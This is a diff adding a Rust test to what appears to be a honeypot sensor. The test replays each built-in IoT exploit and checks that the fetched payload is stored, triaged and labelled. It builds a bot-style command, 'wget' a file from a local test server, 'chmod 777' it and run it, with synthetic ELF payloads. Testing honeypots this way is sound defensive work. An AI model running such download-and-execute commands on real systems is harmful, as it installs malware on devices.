@@ -282,3 +282,91 @@ fn a_profile_without_a_web_server_refuses_http_listeners_and_says_which_have_one
         "{stderr}"
     );
 }
+
+/// Every exploit of the table, as a bot sends it, through the real binary on a
+/// profile that exposes it, with `[fetch]` on: the command runs, the payload is
+/// fetched from a test server on 127.0.0.1, stored, triaged and labelled, and the
+/// endpoint answers with its status.
+#[test]
+fn every_exploit_drops_its_payload_through_the_real_binary() {
+    let table = busybait_intel::exploits::Table::builtin();
+    let profiles = busybait_device::profile::Profile::builtin().unwrap();
+    let files = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = files.local_addr().unwrap().port();
+    // A payload of its own per exploit (so that each is new and triaged): a MIPS
+    // big-endian ELF header and filler.
+    let payloads: Vec<(String, Vec<u8>)> = table
+        .entries
+        .iter()
+        .enumerate()
+        .map(|(i, e)| (e.name.clone(), synthetic_elf((1, 2, 8), 2000 + i * 16)))
+        .collect();
+    let _seen = http_server(
+        vec![files],
+        payloads
+            .iter()
+            .map(|(name, data)| (format!("/{name}"), data.clone()))
+            .collect(),
+    );
+    for (i, entry) in table.entries.iter().enumerate() {
+        let profile = profiles
+            .iter()
+            .find(|p| {
+                p.http
+                    .as_ref()
+                    .is_some_and(|h| h.exploits.contains(&entry.name))
+            })
+            .unwrap();
+        // Every profile has wget here (the router's stock build has only tftp).
+        let sensor = Sensor::start_http(&format!(
+            "profile = \"{}\"\ndownload_tools = [\"wget\", \"tftp\"]\n[fetch]\nenabled = true\nallow = [\"127.0.0.1/32\"]\ntimeout = \"10s\"\n",
+            profile.name
+        ));
+        let http = sensor.http.unwrap();
+        let dir = if profile.mounts.contains("tmpfs /tmp ") {
+            "/tmp"
+        } else {
+            "/var"
+        };
+        let name = &entry.name;
+        let cmd = format!(
+            "cd {dir}; wget http://127.0.0.1:{port}/{name}; chmod 777 {name}; ./{name} {name}"
+        );
+        let (_, bytes) = busybait_pcapgen::exploits::request(name, &cmd);
+        let answer = request(http, source(300 + i), &bytes);
+        let status = format!("HTTP/1.1 {} ", entry.response.status);
+        assert!(answer.starts_with(&status), "{name}: {answer}");
+        let sha = util::sha256_hex(&payloads[i].1);
+        let events = sensor.wait_for_events(name, |e| {
+            e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
+        });
+        let of = |id: &str| -> Vec<&serde_json::Value> {
+            events.iter().filter(|v| v["eventid"] == id).collect()
+        };
+        assert_eq!(
+            of("busybait.exploit")[0]["exploit"],
+            name.as_str(),
+            "{name}"
+        );
+        assert_eq!(
+            of("busybait.download.request")[0]["url"],
+            format!("http://127.0.0.1:{port}/{name}"),
+            "{name}"
+        );
+        let stored = of("cowrie.session.file_download");
+        assert!(
+            stored.iter().any(|v| v["shasum"] == sha.as_str()
+                && v["destfile"] == format!("{dir}/{name}").as_str()),
+            "{name}: {stored:?}"
+        );
+        let triage = of("busybait.sample.triage");
+        assert!(
+            triage
+                .iter()
+                .any(|v| v["shasum"] == sha.as_str() && v["kind"] == "elf"),
+            "{name}: {triage:?}"
+        );
+        assert_eq!(of("busybait.session.family").len(), 1, "{name}");
+        assert!(events.iter().all(|v| v["protocol"] == "http"), "{name}");
+    }
+}
